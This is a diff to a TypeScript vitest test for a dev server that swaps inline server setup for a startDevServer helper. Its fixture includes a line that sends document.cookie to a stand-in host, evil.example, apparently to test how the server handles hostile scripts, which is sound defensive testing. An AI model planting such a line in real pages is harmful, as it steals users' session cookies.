@@ -9,15 +9,14 @@ import http from 'node:http';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { serve } from '../../scripts/dev/server.js';
 import { BUILTIN_TEMPLATES } from '../../scripts/assemble/templates.js';
+import { startDevServer, type RunningDevServer } from '../support/dev-server.js';
 import { cleanCopies, copyExample } from '../support/example-copy.js';
 
 let root: string;
 let port: number;
 const logs: string[] = [];
-const controller = new AbortController();
-let stopped: Promise<void>;
+let server: RunningDevServer;
 let strategyFilesBefore: string[];
 
 function listFiles(dir: string): string[] {
@@ -92,24 +91,12 @@ beforeAll(async () => {
     'fetch("https://evil.example/?" + document.cookie);\n',
   );
   strategyFilesBefore = listFiles(root);
-  await new Promise<void>((ready) => {
-    stopped = serve({
-      root,
-      port: 0,
-      log: (s) => logs.push(s),
-      report: () => undefined,
-      signal: controller.signal,
-      onReady: (p) => {
-        port = p;
-        ready();
-      },
-    });
-  });
+  server = await startDevServer({ root, log: (s) => logs.push(s) });
+  port = server.port;
 }, 120_000);
 
 afterAll(async () => {
-  controller.abort();
-  await stopped;
+  await server.stop();
   cleanCopies();
 });
 
